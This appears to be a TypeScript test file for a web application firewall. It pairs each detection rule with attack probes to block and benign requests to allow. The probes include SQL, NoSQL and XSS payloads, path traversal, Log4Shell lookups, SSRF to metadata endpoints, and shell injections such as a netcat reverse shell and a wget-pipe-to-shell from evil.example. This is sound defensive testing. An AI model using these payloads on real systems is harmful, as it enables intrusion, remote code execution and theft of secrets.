// SPDX-License-Identifier: Apache-2.0
// What each shipped rule finds and what it must leave alone. The second column is the one that grows: a report of a
// benign request that was stopped becomes a line here.

import {
  bare,
  browser,
  cookie,
  field,
  form,
  get,
  json,
  multipart,
  post,
  query,
  text,
  upload,
} from './probe.js'
import type { Probe } from './probe.js'

export interface RuleCases {
  readonly rule: number
  readonly is: string
  /** Status of the answer; 0 for a rule that only notes something. */
  readonly status: number
  readonly finds: readonly Probe[]
  readonly leaves: readonly Probe[]
}

const xml = (body: string): Probe => post('application/xml', body)

export const cases: readonly RuleCases[] = [
  // ---- clients
  {
    rule: 8000010,
    is: "opens the client's record",
    status: 0,
    finds: [get('/')],
    leaves: [],
  },
  {
    rule: 8000015,
    is: 'attack tools that give their name',
    status: 403,
    finds: [
      bare(
        '/',
        ['Host', 'a.example'],
        ['User-Agent', 'sqlmap/1.8.4#stable (https://sqlmap.org)'],
        ['Accept', '*/*'],
      ),
      bare('/', ['Host', 'a.example'], ['User-Agent', 'Mozilla/5.00 (Nikto/2.5.0)'], ['Accept', '*/*']),
    ],
    leaves: [
      bare('/', ['Host', 'a.example'], ['User-Agent', 'curl/8.14.1'], ['Accept', '*/*']),
      bare('/', ['Host', 'a.example'], ['User-Agent', 'python-httpx/0.28.1'], ['Accept', '*/*']),
      bare(
        '/',
        ['Host', 'a.example'],
        ['User-Agent', 'Googlebot/2.1 (+http://www.google.com/bot.html)'],
        ['Accept', '*/*'],
      ),
    ],
  },
  {
    rule: 8000011,
    is: 'failures, counted by the script',
    status: 0,
    finds: [
      query("1' or '1'='1"),
      { ...field('secret', 'password'), response: { status: 401 } },
      { ...get('/', ['Authorization', 'Basic dTpw']), response: { status: 403 } },
    ],
    leaves: [
      get('/'),
      { ...get('/me'), response: { status: 401 } },
      { ...get('/me', ['Authorization', 'Bearer expired']), response: { status: 401 } },
      { ...field('secret', 'password'), response: { status: 200 } },
    ],
  },

  // ---- protocol
  {
    rule: 8000101,
    is: 'methods that web applications do not use',
    status: 405,
    finds: ['TRACE', 'CONNECT', 'DEBUG', 'get', 'ET'].map((method) => ({ ...get('/'), method })),
    leaves: ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].map((method) => ({
      ...get('/'),
      method,
    })),
  },
  {
    rule: 8000102,
    is: 'versions of HTTP that do not exist',
    status: 505,
    finds: ['HTTP/0.9', 'HTTP/1.2', 'HTTP/4'].map((protocol) => ({ ...get('/'), protocol })),
    leaves: ['HTTP/1.0', 'HTTP/1.1', 'HTTP/2', 'HTTP/2.0', 'HTTP/3'].map((protocol) => ({
      ...get('/'),
      protocol,
    })),
  },
  {
    rule: 8000103,
    is: 'control bytes in the request target',
    status: 400,
    finds: [get('/a\tb'), get('/a\x7fb'), get('/a b')],
    leaves: [get('/a%20b'), get('/caf\xc3\xa9')],
  },
  {
    rule: 8000104,
    is: 'percent signs that encode nothing',
    status: 400,
    finds: [get('/?q=100%'), get('/%zz'), get('/?q=%u0041')],
    leaves: [get('/?q=100%25'), get('/%7Euser')],
  },
  {
    rule: 8000105,
    is: 'paths that are no UTF-8',
    status: 400,
    finds: [get('/%c0%afetc'), get('/caf%e9')],
    leaves: [get('/caf%c3%a9'), get('/?q=caf%e9')],
  },
  {
    rule: 8000110,
    is: 'a Host header that is missing or repeated',
    status: 400,
    finds: [bare('/', ['User-Agent', 'x'], ['Accept', '*/*']), get('/', ['Host', 'other.example'])],
    leaves: [get('/'), { ...bare('/', ['User-Agent', 'x'], ['Accept', '*/*']), protocol: 'HTTP/1.0' }],
  },
  {
    rule: 8000111,
    is: 'a Host header that names no host',
    status: 400,
    finds: ['', 'a.example, b.example', 'a.example/path', 'user@a.example', '::1'].map((host) =>
      bare('/', ['Host', host], ['User-Agent', 'x'], ['Accept', '*/*']),
    ),
    leaves: ['a.example', 'a.example:8080', '[::1]:8080', 'my_host', 'localhost', '10.0.0.1:80'].map((host) =>
      bare('/', ['Host', host], ['User-Agent', 'x'], ['Accept', '*/*']),
    ),
  },
  {
    rule: 8000112,
    is: 'two lengths',
    status: 400,
    finds: [get('/', ['Content-Length', '0'], ['Content-Length', '5'])],
    leaves: [get('/', ['Content-Length', '0'])],
  },
  {
    rule: 8000113,
    is: 'a length that is no number',
    status: 400,
    finds: ['5, 5', '-1', '+5', '0x10', ''].map((length) => get('/', ['Content-Length', length])),
    leaves: ['0', '12', '9007199254740992'].map((length) => get('/', ['Content-Length', length])),
  },
  {
    rule: 8000114,
    is: 'a length beside a transfer coding',
    status: 400,
    finds: [get('/', ['Content-Length', '5'], ['Transfer-Encoding', 'chunked'])],
    leaves: [get('/', ['Transfer-Encoding', 'chunked']), get('/', ['Content-Length', '5'])],
  },
  {
    rule: 8000115,
    is: 'a transfer coding that does not end in chunked',
    status: 400,
    finds: ['identity', 'chunked, gzip', 'xchunked', 'chunked\v', 'chunked, chunked'].map((coding) =>
      get('/', ['Transfer-Encoding', coding]),
    ),
    leaves: ['chunked', 'Chunked', 'gzip, chunked'].map((coding) => get('/', ['Transfer-Encoding', coding])),
  },
  {
    rule: 8000116,
    is: 'two transfer codings',
    status: 400,
    finds: [get('/', ['Transfer-Encoding', 'chunked'], ['Transfer-Encoding', 'chunked'])],
    leaves: [get('/', ['Transfer-Encoding', 'chunked'])],
  },
  {
    rule: 8000117,
    is: 'control bytes in headers',
    status: 400,
    finds: [get('/', ['X-Note', 'a\x01b']), get('/', ['X-Note', 'a\nb']), get('/', ['X-Note', 'a\x7f'])],
    leaves: [get('/', ['X-Note', 'a\tb']), get('/', ['X-Name', 'Bj\xf6rn'])],
  },
  {
    rule: 8000118,
    is: 'header names that are no tokens',
    status: 400,
    finds: [get('/', ['Content-Length ', '5']), get('/', ['a(b)', '1']), get('/', ['', '1'])],
    leaves: [get('/', ['x_forwarded-for', '10.0.0.1']), get('/', ["X!#$%&'*+.^`|~", '1'])],
  },
  {
    rule: 8000119,
    is: 'more than ten ranges',
    status: 416,
    finds: [
      get('/a.pdf', [
        'Range',
        `bytes=${Array.from({ length: 11 }, (_, i) => `${i * 2}-${i * 2 + 1}`).join(',')}`,
      ]),
    ],
    leaves: [get('/a.mp4', ['Range', 'bytes=0-']), get('/a.pdf', ['Range', 'bytes=0-99,200-299,-100'])],
  },
  {
    rule: 8000125,
    is: 'compressed request bodies',
    status: 415,
    finds: [post('application/json', '{}', ['Content-Encoding', 'gzip'])],
    leaves: [
      post('application/json', '{}', ['Content-Encoding', 'identity']),
      get('/', ['Accept-Encoding', 'gzip']),
    ],
  },
  {
    rule: 8000126,
    is: 'charsets that hide bytes',
    status: 415,
    finds: ['utf-7', 'UTF-16', '"utf-16le"', 'ibm037'].map((name) =>
      post(`application/json; charset=${name}`, '{}'),
    ),
    leaves: ['utf-8', 'UTF-8', '"utf-8"', 'ISO-8859-1', 'windows-1252', 'utf-8; profile=x'].map((name) =>
      post(`application/json; charset=${name}`, '{}'),
    ),
  },
  {
    rule: 8000127,
    is: 'two content types',
    status: 400,
    finds: [post('application/json', '{}', ['Content-Type', 'text/plain'])],
    leaves: [post('application/json', '{}')],
  },

  // ---- bodies
  {
    rule: 8000020,
    is: 'JSON by its type',
    status: 0,
    finds: [
      'application/json',
      'application/json; charset=utf-8',
      'application/problem+json',
      'text/json',
    ].map((type) => post(type, '{}')),
    leaves: [text('{}'), post('application/jsonish', '{}')],
  },
  {
    rule: 8000021,
    is: 'XML by its type',
    status: 0,
    finds: ['text/xml', 'application/soap+xml; charset=utf-8', 'application/xml'].map((type) =>
      post(type, '<a/>'),
    ),
    leaves: [text('<a/>'), post('image/svg+xml', '<svg/>')],
  },
  {
    rule: 8000022,
    is: 'bodies that no parser takes',
    status: 0,
    finds: [text('hello'), post('application/graphql', '{ me { id } }')],
    leaves: [
      get('/'),
      form('a=1'),
      json({ a: 1 }),
      xml('<a/>'),
      get('/', ['Content-Length', '0']),
      post('application/octet-stream', "1' or '1'='1"),
    ],
  },
  {
    rule: 8000024,
    is: 'bodies that are no text',
    status: 0,
    finds: [
      post('image/png', '\x89PNG'),
      post('application/octet-stream', 'x'),
      post('application/pdf', '%PDF-'),
    ],
    leaves: [text('hello'), post('image/svg+xml', '<svg/>'), form('a=1')],
  },
  {
    rule: 8000023,
    is: 'forms, which are not looked at twice',
    status: 0,
    finds: [form('a=1')],
    leaves: [get('/'), json({ a: 1 }), text('a=1')],
  },
  {
    rule: 8000031,
    is: 'bodies that do not parse',
    status: 400,
    finds: [
      post('application/json', '{"a":'),
      post('application/xml', '<a><b></a>'),
      post('application/json', '['.repeat(200) + ']'.repeat(200)),
      post('multipart/form-data; boundary=x', 'no boundary here'),
    ],
    leaves: [
      json({ a: [1, { b: null }] }),
      xml('<a><b>1</b></a>'),
      multipart('Content-Disposition: form-data; name="a"'),
    ],
  },
  {
    rule: 8000033,
    is: 'multipart bodies that parsers read differently',
    status: 400,
    finds: [
      post(
        'multipart/form-data; boundary=limit7Q',
        '--limit7Q\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--limit7Q\r\n--limit7Q--\r\n',
      ),
    ],
    leaves: [
      multipart('Content-Disposition: form-data; name="a"'),
      multipart('Content-Disposition: form-data; name="a"', 'Best,\r\n-- \r\nBob'),
    ],
  },
  {
    rule: 8000034,
    is: 'percent signs in a form that encode nothing',
    status: 400,
    finds: [form('discount=100%')],
    leaves: [form('discount=100%25')],
  },
  {
    rule: 8000040,
    is: 'NUL bytes',
    status: 400,
    finds: [get('/file.php%00.jpg'), query('a\0b'), form('a=1%00'), cookie('a=%00')],
    leaves: [query('00'), get('/100%25')],
  },
  {
    rule: 8000041,
    is: 'control bytes in names',
    status: 400,
    finds: [query('1', 'a\nb'), upload('a\x01b.txt')],
    leaves: [query('line\r\nline', 'text'), upload('räksmörgås.txt')],
  },
  {
    rule: 8000042,
    is: 'names that are no UTF-8',
    status: 400,
    finds: [get('/?caf%e9=1')],
    leaves: [get('/?caf%c3%a9=1'), get('/?q=caf%e9')],
  },
  {
    rule: 8000043,
    is: 'argument names that are too long',
    status: 400,
    finds: [query('1', 'n'.repeat(513))],
    leaves: [query('1', 'n'.repeat(200)), query('v'.repeat(2000))],
  },

  // ---- injection
  {
    rule: 8000201,
    is: 'SQL that libinjection recognises',
    status: 403,
    finds: [
      query("1' or '1'='1"),
      field('9 AND SLEEP(8)'),
      json({ filter: { id: "x'; DROP TABLE offices; --" } }),
      cookie("id=1'%20union%20select%20password%20from%20users--"),
      text("1' or '1'='1"),
      xml("<a>-1' union select 1,2,3 -- </a>"),
    ],
    leaves: [
      query("O'Brien and sons"),
      field("It's 5 o'clock, and I don't know"),
      field('Please select one or two options from the list; drop me a line'),
      query('rock & roll -- the best'),
      json({ note: 'Tom said: "and?"' }),
    ],
  },
  {
    rule: 8000202,
    is: 'statements that no visitor writes',
    status: 403,
    finds: [
      query('1 UNION/**/ALL/**/SELECT NULL,NULL'),
      field('benchmark(10000000,md5(1))'),
      query("1 waitfor delay '0:0:5'"),
      xml("<a>'; EXEC xp_cmdshell('dir')</a>"),
      get('/', ['Referer', 'http://a.example/?id=1%20union%20select%201']),
    ],
    leaves: [
      field('The student union, all told, will select a speaker'),
      field('I sleep (badly) in the benchmark hotel'),
      query('union selection committee'),
    ],
  },
  {
    rule: 8000203,
    is: 'texts that are broken out of',
    status: 403,
    finds: [
      query("x' ; update users set admin=1"),
      query('a" or 1=1'),
      query('7; delete from users'),
      field("z' || 'q'='q"),
    ],
    leaves: [
      field("He said 'yes'; update your notes"),
      query("'a' or 'b'"),
      field('"cats" and dogs=friends'),
    ],
  },
  {
    rule: 8000204,
    is: 'operators of document databases',
    status: 403,
    finds: [
      query('', 'user[$ne]'),
      json({ login: { password: { $gt: '' } } }),
      form('password%5B%24regex%5D=.*'),
      json({ filter: { $where: 'sleep(1)' } }),
    ],
    leaves: [
      query('10', '$top'),
      query('a', 'price[$]'),
      query('1', 'filter[in_stock]'),
      query('x', 'filters[name][$ne]'),
      query('3', 'age[$gt]'),
      json({ cost: { $: 5 } }),
    ],
  },
  {
    rule: 8000210,
    is: 'markup that libinjection recognises',
    status: 403,
    finds: [
      query('<script>alert(1)</script>'),
      json({ bio: '<img src=x onerror=alert(1)>' }),
      cookie('pref=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'),
      upload('<svg onload=alert(1)>.png'),
      get('/<script>alert(1)</script>'),
    ],
    leaves: [
      query('a < b and b > c'),
      field('I <3 this, prices < 10 EUR'),
      field('<b>bold</b> and <i>italic</i>'),
      json({ text: 'if (x<y) return on = 1' }),
    ],
  },
  {
    rule: 8000211,
    is: 'markup that carries script',
    status: 403,
    finds: [
      query('javascript:alert(1)'),
      field('&lt;iframe src=//evil.example&gt;'),
      query('<a href=x onmouseover=steal()>'),
      query('data:text/html;base64,PHNjcmlwdD4='),
    ],
    leaves: [
      field('I like the JavaScript: The Good Parts book'),
      field('a <strong>once</strong> in a lifetime = luck'),
      query('metadata: base, object, script'),
    ],
  },
  {
    rule: 8000220,
    is: 'header lines in arguments',
    status: 403,
    finds: [get('/?lang=en%0d%0aSet-Cookie:%20a=1'), get('/?u=x%0a%0aHTTP/1.1%20200%20OK')],
    leaves: [get('/?text=Location:%20Berlin'), get('/?text=line%0d%0aline%20two')],
  },

  // ---- paths
  {
    rule: 8000301,
    is: 'traversal in the target as sent',
    status: 403,
    finds: [
      get('/static/../../etc/x'),
      get('/download?file=..%2F..%2Fx'),
      get('/a?f=..%252f..%252fx'),
      get('/a?f=....//....//x'),
      get('/%2e%2e/x'),
      get('/a?f=..%5c..%5cx'),
    ],
    leaves: [
      get('/a..b/c'),
      get('/v1...v2'),
      get('/?q=wait...'),
      get('/?next=../list'),
      get('/compare/v1...v2'),
      get('/.well-known/security.txt'),
    ],
  },
  {
    rule: 8000302,
    is: 'slashes in an encoding that hides them',
    status: 403,
    finds: [get('/a?f=..%c0%afx'), get('/a?f=%u002e%u002e%u2215'), get('/a?f=%25c0%25ae')],
    leaves: [get('/?q=%c3%a0'), get('/?q=%e2%80%ae')],
  },
  {
    rule: 8000303,
    is: 'traversal in arguments',
    status: 403,
    finds: [
      field('../../x'),
      json({ path: '/var/www/site/../../keys' }),
      cookie('tpl=../../x'),
      field('..\\..\\x'),
    ],
    leaves: [
      field('Well... / or not'),
      field('../image.png'),
      json({ range: '1../2' }),
      field('and so on ... /etc'),
    ],
  },
  {
    rule: 8000304,
    is: 'uploads that name a folder',
    status: 403,
    finds: [upload('../x.txt'), upload('/x.txt'), upload('C:/x.txt')],
    leaves: [upload('x.txt'), upload('report..final.txt'), upload('a b (1).txt')],
  },
  {
    rule: 8000305,
    is: 'names of system files',
    status: 403,
    finds: [
      query('/etc/passwd'),
      query('/etc/./passwd'),
      field('file:C:\\Windows\\win.ini'),
      json({ f: '/proc/self/environ' }),
    ],
    leaves: [
      query('password'),
      field('process self-help'),
      field('reboot.initial'),
      get('/etcetera/passport'),
    ],
  },
  {
    rule: 8000306,
    is: 'files that are not meant to be served',
    status: 403,
    finds: [
      get('/.git/config'),
      get('/.env'),
      get('/app/.env.production'),
      get('/wp-config.php.bak'),
      get('/backup.sql'),
    ],
    leaves: [
      get('/.well-known/acme-challenge/x'),
      get('/docs/environment'),
      get('/backup'),
      get('/gitlab.html'),
      get('/?f=.env'),
    ],
  },

  // ---- commands
  {
    rule: 8000401,
    is: 'Unix commands',
    status: 403,
    finds: [
      query(';cat /etc/hosts'),
      query('| nc -e /bin/sh 10.0.0.6 4568'),
      query('$(wget http://evil.example/x.sh -O- | sh)'),
      field('x && curl http://evil.example'),
      json({ name: '`whoami`' }),
      query('a;ls -la'),
      query('||ping -c 10 127.0.0.1'),
      query('x && id'),
      query('; sleep 10'),
      query(';echo $(cat x)'),
      query('a\nchmod 777 x'),
    ],
    leaves: [
      field('Salt & pepper; cat and dog'),
      field('Tom & find out more; echo of the past'),
      query('rock & more'),
      field('host; who knows'),
      query('A|B|C'),
      field('sleep | head | tail'),
      query('last 10'),
      query('wget'),
      query('fields=name|id'),
      field('Do this; find and/or report it'),
      field('Shopping:\nhost 12\nlast 10\nmail 3'),
      field('Buy two & more -5% off; node by node'),
      field('more; less; sort of'),
      field('Price: $(5) or `quoted` text; node by node'),
    ],
  },
  {
    rule: 8000402,
    is: 'command substitution, quotes and backslashes inside',
    status: 403,
    finds: [
      query('$(id)'),
      query("`c'a't /x`"),
      query('| c\\at /etc/x'),
      query('$(sleep 5)'),
      query("& 'ping' -c 3 x"),
    ],
    leaves: [
      field('$(document).ready()'),
      field('use `name` or `value`'),
      field('the `id` and `env` columns'),
      field('$(5) & 10'),
      query('this & that'),
      field('dog | cat/kitten'),
    ],
  },
  {
    rule: 8000403,
    is: 'Unix shells',
    status: 403,
    finds: [
      query('/bin/sh'),
      query('cat${IFS}x'),
      get('/', ['X-Note', '() { :; }; echo x']),
      query('/dev/tcp/10.0.0.1/80'),
      query('/usr/bin/env x'),
    ],
    leaves: [
      field('the bin/shelf next to it'),
      field('fn() { return }'),
      field('() { return 1 }'),
      query('chmod'),
    ],
  },
  {
    rule: 8000410,
    is: 'Windows commands',
    status: 403,
    finds: [
      query('cmd.exe /c dir'),
      query('cmd /c del x'),
      query('powershell -enc SQBFAFgA'),
      query('certutil -f -urlcache http://evil.example/x'),
      query('x & ipconfig'),
      query('p^ower^shell -c x'),
    ],
    leaves: [
      field('Press cmd + c to copy'),
      field('powershell and bash'),
      field('type & copy; net worth'),
      field('cut & copy'),
      field('cash & net'),
      query('dir'),
    ],
  },

  // ---- code
  {
    rule: 8000501,
    is: 'prototype pollution',
    status: 403,
    finds: [
      query('1', '__proto__[admin]'),
      query('1', 'a[constructor][prototype][x]'),
      post('application/json', '{"__proto__":{"admin":true}}'),
      cookie('pref=__proto__%5BisAdmin%5D%3Dtrue'),
    ],
    leaves: [query('__proto__', 'q'), query('1', 'prototype'), json({ constructor: 'Bob', prototype: 'v1' })],
  },
  {
    rule: 8000502,
    is: 'JavaScript for the server',
    status: 403,
    finds: [
      field("require('child_process').exec('id')"),
      field("{{constructor.constructor('return process')()}}"),
      json({ x: 'process.mainModule' }),
    ],
    leaves: [
      field('Our process requires (and deserves) care'),
      field("require('./own.js')"),
      field('process.env'),
    ],
  },
  {
    rule: 8000510,
    is: 'PHP',
    status: 403,
    finds: [
      field('<?php system("id"); ?>'),
      query('php://filter/convert.base64-encode/resource=x'),
      json({ v: 'O:8:"stdClass":1:{s:5:"cmd";s:2:"id";}' }),
      query('${@eval($_POST[1])}'),
      query('phar://x.jpg'),
    ],
    leaves: [field('php is fine; <? yes ?>'), json({ ratio: 'O:8:1' }), xml('<?xml version="1.0"?><a/>')],
  },
  {
    rule: 8000520,
    is: 'template injection',
    status: 403,
    finds: [
      query('{{7*7}}'),
      query('${T(java.lang.Runtime)}'),
      query("{{''.__class__.__mro__}}"),
      query('<%= 7 * 7 %>'),
    ],
    leaves: [field('Hello {{ name }}, you owe ${amount}'), field('{% if a %}'), query('{"a":{"b":7}}')],
  },
  {
    rule: 8000521,
    is: 'look-ups of Java loggers',
    status: 403,
    finds: [
      query('${jndi:ldap://evil.example/a}'),
      get('/', ['X-Api-Version', '${${lower:j}ndi:ldap://evil.example/a}']),
      query('${env:AWS_SECRET_ACCESS_KEY}'),
    ],
    leaves: [field('${price} and ${environment}'), field('jndi:ldap')],
  },
  {
    rule: 8000522,
    is: 'Java code and serialised objects',
    status: 403,
    finds: [
      query('java.lang.Runtime.getRuntime().exec("x")'),
      cookie('s=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
      query('class.module.classLoader'),
    ],
    leaves: [field('java.util.List is a class'), field('Our runtime is short')],
  },
  {
    rule: 8000530,
    is: 'addresses that only the server can reach',
    status: 403,
    finds: [
      query('http://169.254.169.254/latest/meta-data/'),
      json({ url: 'http://metadata.google.internal/' }),
      query('gopher://127.0.0.1:6379/_x'),
      query('file:///x'),
    ],
    leaves: [
      query('https://www.example.org/'),
      query('http://localhost:3000/callback'),
      field('profile:/ and dict: definitions'),
      query('version 1.169.254.169'),
    ],
  },

  // ---- suspicion
  {
    rule: 8000901,
    is: 'a missing User-Agent',
    status: 0,
    finds: [bare('/', ['Host', 'a.example'], ['Accept', '*/*'])],
    leaves: [get('/')],
  },
  {
    rule: 8000902,
    is: 'a missing Accept',
    status: 0,
    finds: [bare('/', ['Host', 'a.example'], ['User-Agent', 'x'])],
    leaves: [get('/')],
  },
  {
    rule: 8000903,
    is: 'an address as Host',
    status: 0,
    finds: [bare('/', ['Host', '192.0.2.7:8080'])],
    leaves: [get('/'), bare('/', ['Host', '1.2.3.example'])],
  },
  {
    rule: 8000904,
    is: 'a body without a type',
    status: 0,
    finds: [{ ...get('/'), method: 'POST', headers: [...browser, ['Content-Length', '1']], body: 'x' }],
    leaves: [text('x'), { ...get('/'), method: 'POST', headers: [...browser, ['Content-Length', '0']] }],
  },
  {
    rule: 8000905,
    is: 'an address of a machine as a value',
    status: 0,
    finds: [query('http://203.0.113.148/bicycle.txt')],
    leaves: [query('http://files.example/bicycle.txt'), query('see http://203.0.113.148/')],
  },
  {
    rule: 8000906,
    is: 'an address that cuts off what follows',
    status: 0,
    finds: [query('http://files.example/x.txt?')],
    leaves: [query('http://files.example/x.txt?a=1'), query('have you seen http://files.example?')],
  },
  {
    rule: 8000907,
    is: 'a relative path',
    status: 0,
    finds: [field('../list')],
    leaves: [field('list'), field('see ../list')],
  },
  {
    rule: 8000908,
    is: 'markup in a header of proxies',
    status: 0,
    finds: [get('/', ['X-Forwarded-For', "127.0.0.1'"])],
    leaves: [get('/', ['X-Forwarded-For', '2001:db8::1, 10.0.0.1'])],
  },
  {
    rule: 8000990,
    is: 'several suspicious signs at once',
    status: 403,
    finds: [
      query('http://203.0.113.148/bicycle.txt?'),
      bare('/?u=http://203.0.113.1/', ['Host', '192.0.2.7'], ['Accept', '*/*']),
    ],
    leaves: [bare('/', ['Host', '192.0.2.7']), query('http://203.0.113.148/hook')],
  },
]
